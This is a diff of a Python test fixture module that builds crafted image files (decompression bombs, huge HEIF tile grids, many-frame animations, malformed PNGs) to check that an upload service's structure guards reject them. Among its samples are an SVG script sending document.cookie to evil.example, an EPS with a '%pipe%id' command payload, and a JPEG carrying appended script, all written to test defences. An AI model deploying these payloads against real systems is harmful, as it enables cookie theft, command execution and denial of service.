@@ -1,13 +1,15 @@
-"""Crafted files, byte by byte: the structures the guards stop, grown to any size, and probes that
-sit exactly at each guard's limit. Shared by the hostile benchmark (bench/hostile.py) and the tests.
+"""Crafted files, byte by byte: the structures the guards stop, grown to any size, probes that sit
+exactly at each guard's limit, and the malformed or unsupported uploads broken clients send. The one
+source of hostile files for the tests and the hostile benchmark (bench/hostile.py).
 
 - ATTACKS: name -> Attack. One kind of hostile file at a given scale (scans, segments, chunks...),
   each of which was slow or memory-hungry before the structure walk existed.
 - PROBES: guard name -> Probe. `build(n)` makes an otherwise ordinary file that counts `n` for that
   guard (to within `step`): build(limit) passes the walk, build(limit + step) is refused.
+- REJECTED: name -> (builder, code). Uploads that end `failed` with that code.
 
 Image data comes from Pillow where it can encode it; HEVC tiles come from two tiny files in
-bench/fixtures/ (made once with pillow-heif's x265: pi-heif cannot encode).
+tests/fixtures/ (made once with pillow-heif's x265: pi-heif cannot encode).
 """
 
 from __future__ import annotations
@@ -19,13 +21,12 @@ import zlib
 from collections.abc import Callable
 from dataclasses import dataclass, field
 from functools import cache
-from pathlib import Path
 
 from PIL import Image
 
 from chalicelib.imaging.structure import GUARDS, check_structure
+from tests import images
 
-FIXTURES = Path(__file__).resolve().parent / "fixtures"
 MIB = 1024 * 1024
 MAX_UPLOAD_BYTES = 25 * MIB
 
@@ -420,8 +421,84 @@ def coded_image(kind: bytes, width: int) -> tuple[bytes, bytes]:
     if kind == b"av01":
         data = encode(Image.new("RGB", (width, width), (40, 160, 90)), "AVIF", quality=50, speed=10)
         return find_box(data, [b"meta", b"iprp", b"ipco", b"av1C"]), find_box(data, [b"mdat"])[8:]
-    data = (FIXTURES / f"flat_{width}.heic").read_bytes()
+    data = images.fixture(f"flat_{width}.heic")
     return find_box(data, [b"meta", b"iprp", b"ipco", b"hvcC"]), find_box(data, [b"mdat"])[8:]
+
+
+def _children(data: bytes, pos: int, end: int) -> dict[bytes, list[tuple[int, int]]]:
+    """Payload spans of the boxes in data[pos:end], by type."""
+    found: dict[bytes, list[tuple[int, int]]] = {}
+    while pos + 8 <= end:
+        size, kind = struct.unpack_from(">I4s", data, pos)
+        found.setdefault(kind, []).append((pos + 8, pos + size))
+        pos += size
+    return found
+
+
+@cache
+def coded_items(name: str) -> tuple[tuple[bytes, bytes], ...]:
+    """(codec configuration box, data) of each coded item of a fixture written by pillow-heif, in item
+    order: the colour image, then its alpha plane when it has one."""
+    data = images.fixture(name)
+    meta = _children(data, 0, len(data))[b"meta"][0]
+    boxes = _children(data, meta[0] + 4, meta[1])
+    iprp = _children(data, *boxes[b"iprp"][0])
+    ipco = _children(data, *iprp[b"ipco"][0])
+    configurations = [data[start - 8 : stop] for start, stop in ipco.get(b"hvcC", []) + ipco.get(b"av1C", [])]
+    start = boxes[b"iloc"][0][0]
+    count, pos, extents = struct.unpack_from(">H", data, start + 6)[0], start + 8, []
+    for _ in range(count):  # version 0, 4-byte base, offset and length, one extent (pillow-heif's layout)
+        base, _extents, offset, length = struct.unpack_from(">IHII", data, pos + 4)
+        extents.append(data[base + offset : base + offset + length])
+        pos += 18
+    return tuple(zip(configurations, extents))
+
+
+def clean_aperture(width: int, height: int) -> bytes:
+    """A `clap` box presenting the centred width x height of the image it is on."""
+    return box(b"clap", struct.pack(">8I", width, 1, height, 1, 0, 1, 0, 1))
+
+
+def alpha_property() -> bytes:
+    return full_box(b"auxC", 0, 0, b"urn:mpeg:hevc:2015:auxid:1\x00")
+
+
+@dataclass(frozen=True)
+class Coded:
+    """A picture of rows x columns flat tiles of `tile` px from a pillow-heif fixture (one coded item
+    when 1x1, else a grid of them): its colour plane (4:4:4) or its alpha plane (4:0:0)."""
+
+    tile: int
+    rows: int = 1
+    columns: int = 1
+    alpha: bool = False
+
+    @property
+    def size(self) -> tuple[int, int]:
+        return self.columns * self.tile, self.rows * self.tile
+
+    def items(self, first_id: int, properties: list[bytes]) -> tuple[list[Item], list[tuple[bytes, int, list[int]]]]:
+        """Its items, the first being the picture (with `properties` added), ids from `first_id`, and
+        the grid's references."""
+        config, data = coded_items(f"flat_{self.tile}_444_alpha.heic")[int(self.alpha)]
+        if self.rows * self.columns == 1:
+            return [Item(b"hvc1", data, [config, ispe(*self.size), *properties])], []
+        descriptor = struct.pack(">BBBBHH", 0, 0, self.rows - 1, self.columns - 1, *self.size)
+        count = self.rows * self.columns
+        tiles = [Item(b"hvc1", data, [config, ispe(self.tile, self.tile)], hidden=True) for _ in range(count)]
+        grid_item = Item(b"grid", descriptor, [ispe(*self.size), *properties])
+        return [grid_item, *tiles], [(b"dimg", first_id, list(range(first_id + 1, first_id + 1 + count)))]
+
+
+def heif_image(colour: Coded, alpha: Coded | None = None, crop: tuple[int, int] | None = None) -> bytes:
+    """A HEIC of the `colour` picture, with `alpha` as its alpha plane, optionally cropped by `clap`."""
+    items, references = colour.items(1, [clean_aperture(*crop)] if crop else [])
+    if alpha is not None:
+        alpha_items, alpha_references = alpha.items(len(items) + 1, [alpha_property()])
+        alpha_items[0].hidden = True
+        references += [(b"auxl", len(items) + 1, [1]), *alpha_references]
+        items += alpha_items
+    return iso_file(b"heic", items, references)
 
 
 def still(
@@ -691,6 +768,31 @@ ATTACKS: dict[str, Attack] = {
     "avif-deep-boxes": Attack(
         "AVIF", lambda n: still(extra=nested_boxes(n)), "levels", (100, 100_000), "nesting_too_deep"
     ),
+    # Issue #23: far more decoded than shown.
+    "heif-clap-over-tiles-with-alpha": Attack(
+        "HEIF",
+        lambda n: heif_image(Coded(4096, n, n + 1), Coded(4096, n, n + 1, alpha=True), crop=(64, 64)),
+        "rows of 4096 px 4:4:4 tiles",
+        (1, 5),
+        "too_many_pixels",
+    ),
+    "heif-clap-over-tiles": Attack(
+        "HEIF",
+        lambda n: heif_image(Coded(4096, n, n + 1), crop=(64, 64)),
+        "rows of 4096 px tiles",
+        (5,),
+        "too_many_pixels",
+    ),
+    "heif-clap-over-one-picture": Attack(
+        "HEIF", lambda n: heif_image(Coded(n), crop=(64, 64)), "px coded", (4096,), "too_many_pixels"
+    ),
+    "heif-alpha-larger-than-image": Attack(
+        "HEIF",
+        lambda n: heif_image(Coded(64), Coded(4096, n, n + 1, alpha=True)),
+        "rows of 4096 px alpha tiles",
+        (1, 5),
+        "too_many_pixels",
+    ),
 }
 
 
@@ -753,7 +855,7 @@ def grid_shape(tiles: int) -> tuple[int, int]:
     return rows, tiles // rows
 
 
-def _grid_tile_ratio(ratio: int) -> bytes:
+def _grid_decoded_ratio(ratio: int) -> bytes:
     """A 2x2 grid of 1024 px tiles (4 MP decoded) making an image `ratio` times smaller."""
     return grid(2, 2, declared=1024, output=(2048, 2048 // ratio))
 
@@ -862,7 +964,7 @@ PROBES: dict[str, Probe] = {
     "bmff.items": Probe("AVIF", _items),
     "bmff.references": Probe("AVIF", _references),
     "bmff.tiles": Probe("AVIF", lambda n: grid(*grid_shape(n), distinct=64)),
-    "bmff.tile_ratio": Probe("AVIF", _grid_tile_ratio),
+    "bmff.decoded_ratio": Probe("AVIF", _grid_decoded_ratio),
     "bmff.units": Probe("AVIF", _coded_units),
     "bmff.pictures": Probe("AVIF", _coded_pictures),
     "bmff.metadata_bytes": Probe("AVIF", _metadata_bytes),
@@ -908,7 +1010,172 @@ WORST: dict[str, Callable[[], bytes]] = {
     "bmff.tiles": lambda: grid(31, 32, b"hvc1"),
     # A valid grid cannot reach 4x its image with more than one tile (no tile may lie wholly
     # outside it); a single tile can: a 4 MP tile cropped to 1 MP.
-    "bmff.tile_ratio": lambda: grid(1, 1, tile=2048, output=(1024, 1024)),
+    "bmff.decoded_ratio": lambda: grid(1, 1, tile=2048, output=(1024, 1024)),
     "gif.canvas_ratio": _worst_gif_canvas,
     "webp.canvas_ratio": _worst_webp_canvas,
+}
+
+_LIMIT_SIZE = (8660, 5773)  # just under MAX_PIXELS (50 MP)
+
+# The worst legal file of each format: the most pixels allowed, with the costliest coding its encoders
+# here can make (alpha, no chroma subsampling, every scan the guard allows), for the guards docs.
+WORST_BY_FORMAT: dict[str, tuple[str, Callable[[], bytes]]] = {
+    "JPEG": ("50 MP progressive 4:4:4, 100 scans", _worst_scans),
+    "PNG": ("50 MP RGBA", lambda: encode(images.gradients(*_LIMIT_SIZE, "RGBA"), "PNG", compress_level=1)),
+    "GIF": ("50 MP", lambda: gif_image(*_LIMIT_SIZE)),
+    "WEBP": ("50 MP RGBA", images.large_webp),
+    "AVIF": (
+        "50 MP RGBA 4:4:4",
+        lambda: encode(images.gradients(*_LIMIT_SIZE, "RGBA"), "AVIF", quality=30, speed=10, subsampling="4:4:4"),
+    ),
+    "HEIF": (
+        "50 MP shown of 67 MP of 4:4:4 tiles, with alpha",
+        lambda: heif_image(Coded(4096, 2, 2), Coded(4096, 2, 2, alpha=True), crop=(8192, 6100)),
+    ),
+}
+
+
+# ---------------------------------------------------------------- malformed and unsupported uploads
+def ihdr(width: int, height: int, depth: int = 8, colour: int = 2) -> bytes:
+    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
+
+
+def png_from_chunks(width: int, height: int, *middle: bytes, idat: bytes | None = None) -> bytes:
+    if idat is None:
+        idat = zlib.compress(b"\x00" + b"\x00" * width * 3)  # one real row is enough to be a PNG
+    return PNG_SIGNATURE + ihdr(width, height) + b"".join(middle) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
+
+
+def zero_png(width: int, height: int) -> bytes:
+    """A complete, valid, all-black RGB PNG: tiny on disk, huge in memory (9000x9000 is ~236 KB)."""
+    compressor = zlib.compressobj(9)
+    row = b"\x00" * (width * 3 + 1)
+    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
+    return png_from_chunks(width, height, idat=body)
+
+
+def ztxt_bomb() -> bytes:
+    """A zTXt chunk that inflates to 100 MB of text."""
+    payload = b"Comment\x00\x00" + zlib.compress(b"A" * 100_000_000, 9)
+    return png_from_chunks(64, 64, chunk(b"zTXt", payload))
+
+
+def iccp_bomb() -> bytes:
+    """An iCCP 'profile' that inflates to 100 MB."""
+    payload = b"evil\x00\x00" + zlib.compress(b"\x00" * 100_000_000, 9)
+    return png_from_chunks(64, 64, chunk(b"iCCP", payload))
+
+
+def corrupt_idat() -> bytes:
+    """Valid chunk structure, but the deflate stream inside IDAT is broken."""
+    data = bytearray(images.png(200, 150))
+    start = data.index(b"IDAT") + 4
+    data[start + 2 : start + 400] = b"\xff" * 398  # after the zlib header: an invalid block type
+    return bytes(data)
+
+
+def many_frame_gif(frames: int, width: int = 1000, height: int = 1000) -> bytes:
+    """An animated GIF of `frames` full-size frames, each a few bytes of LZW (clear, end)."""
+    screen = struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
+    frame = (
+        b"\x21\xf9\x04\x00\x0a\x00\x00\x00"  # graphic control: 100 ms
+        + b"\x2c"
+        + struct.pack("<HHHHB", 0, 0, width, height, 0)
+        + b"\x02\x01\x2c\x00"  # LZW min size 2; one sub-block holding codes clear(4), end(5)
+    )
+    return b"GIF89a" + screen + frame * frames + b"\x3b"
+
+
+def many_frame_webp(frames: int, size: int = 1000) -> bytes:
+    """Alternating full-size frames (identical ones would be merged by the encoder)."""
+    dark, light = Image.new("RGB", (size, size), (10, 20, 30)), Image.new("RGB", (size, size), (200, 210, 220))
+    rest = [light if i % 2 == 0 else dark for i in range(frames - 1)]
+    return images.encode(dark, "WEBP", save_all=True, append_images=rest, duration=50, quality=10, method=0)
+
+
+def palette_png_without_plte() -> bytes:
+    return png_from_chunks(16, 16, idat=zlib.compress(b"\x00" * 17 * 16)).replace(ihdr(16, 16), ihdr(16, 16, colour=3))
+
+
+def metadata_item_of_type(kind: bytes) -> bytes:
+    """A 64 px HEIC described by an Exif-like item of type `kind` (pi-heif reads its type as text)."""
+    config, data = coded_image(b"hvc1", 64)
+    exif = Item(kind, b"\x00\x00\x00\x00" + tiff([(0x0112, 3, 1, 1)]))
+    return iso_file(b"heic", [Item(b"hvc1", data, [config, ispe(64, 64)]), exif], [(b"cdsc", 2, [1])])
+
+
+def svg_with_script() -> bytes:
+    return (
+        b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
+        b'<script type="text/javascript">fetch("https://evil.example/"+document.cookie)</script>'
+        b'<rect width="100" height="100" fill="red"/></svg>'
+    )
+
+
+def eps() -> bytes:
+    return b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n(%pipe%id) (w) file\nshowpage\n"
+
+
+def psd() -> bytes:
+    header = b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, 100, 100, 8, 3)
+    return header + struct.pack(">I", 0) * 3 + struct.pack(">H", 0) + b"\x00" * (100 * 100 * 3)
+
+
+def ico() -> bytes:
+    return images.encode(images.photo(32, 32), "ICO")
+
+
+def tiff_file() -> bytes:
+    return images.encode(images.photo(64, 64), "TIFF")
+
+
+def bmp() -> bytes:
+    return images.encode(images.photo(64, 64), "BMP")
+
+
+def jpeg_with_html() -> bytes:
+    return images.jpeg(400, 300) + b"<html><body><script>alert(document.domain)</script></body></html>"
+
+
+# name -> (builder, expected failure code). Shared by the image-core and the handler tests.
+REJECTED: dict[str, tuple[Callable[[], bytes], str]] = {
+    "empty": (lambda: b"", "empty"),
+    "random-bytes-named-jpg": (lambda: bytes(range(256)) * 40, "not_an_image"),
+    "png-header-100000x100000": (lambda: images.png_header(100_000, 100_000), "too_many_pixels"),
+    "png-header-10000x10000": (lambda: images.png_header(10_000, 10_000), "too_many_pixels"),
+    "png-header-1e8x1": (lambda: images.png_header(10**8, 1), "too_many_pixels"),
+    "png-header-12001x100": (lambda: images.png_header(12_001, 100), "dimensions_too_large"),
+    "zero-png-9000x9000": (lambda: zero_png(9000, 9000), "too_many_pixels"),
+    "ztxt-bomb": (ztxt_bomb, "decompression_bomb"),
+    "iccp-bomb": (iccp_bomb, "decompression_bomb"),
+    "truncated-jpeg": (lambda: images.jpeg(800, 600)[:5000], "truncated"),
+    "corrupt-idat": (corrupt_idat, "corrupt"),
+    "gif-300-frames-1mp": (lambda: many_frame_gif(300), "too_many_frames"),
+    "apng-150-frames-1mp": (lambda: apng(150, 1000), "too_many_frames"),
+    "webp-120-frames-1mp": (lambda: many_frame_webp(120), "too_many_frames"),
+    "tiff": (tiff_file, "unsupported_format"),
+    "bmp": (bmp, "unsupported_format"),
+    "ico": (ico, "unsupported_format"),
+    "psd": (psd, "unsupported_format"),
+    "eps": (eps, "unsupported_format"),
+    "svg-with-script": (svg_with_script, "unsupported_format"),
+    # Refused by the structure walk, before Pillow parses them (ATTACKS above, docs/guards.md).
+    "jpeg-5000-scans": (lambda: ATTACKS["jpeg-repeated-scans"].build(5000), "too_many_scans"),
+    "jpeg-2mb-of-small-exif-segments": (lambda: ATTACKS["jpeg-small-exif-segments"].build(20_000), "too_much_metadata"),
+    "jpeg-1m-empty-app1": (lambda: ATTACKS["jpeg-empty-app1"].build(1_000_000), "too_much_metadata"),
+    "jpeg-mpf-overlapping-values": (lambda: ATTACKS["jpeg-mpf-overlapping-values"].build(1), "too_much_metadata"),
+    "png-repeated-iccp": (lambda: ATTACKS["png-repeated-iccp"].build(100), "too_much_metadata"),
+    "icc-1000-pipeline-elements": (lambda: ATTACKS["icc-repeated-pipeline-elements"].build(1000), "too_much_metadata"),
+    "gif-long-comment": (lambda: ATTACKS["gif-long-comment"].build(1_000_000), "too_much_metadata"),
+    "gif-huge-screen": (lambda: ATTACKS["gif-huge-screen"].build(4166), "canvas_too_large"),
+    "webp-huge-canvas": (lambda: ATTACKS["webp-huge-canvas"].build(4166), "canvas_too_large"),
+    # Issue #23: pi-heif crashed on the first; Pillow failed an assertion on the second.
+    "heif-exif-type-not-text": (lambda: metadata_item_of_type(b"Exi\xff"), "corrupt"),
+    "png-palette-without-plte": (palette_png_without_plte, "corrupt"),
+    "heif-clap-over-30-tiles-with-alpha": (
+        lambda: ATTACKS["heif-clap-over-tiles-with-alpha"].build(5),
+        "too_many_pixels",
+    ),
+    "heif-alpha-larger-than-image": (lambda: ATTACKS["heif-alpha-larger-than-image"].build(5), "too_many_pixels"),
+    "heif-clap-over-one-picture": (lambda: ATTACKS["heif-clap-over-one-picture"].build(4096), "too_many_pixels"),
 }
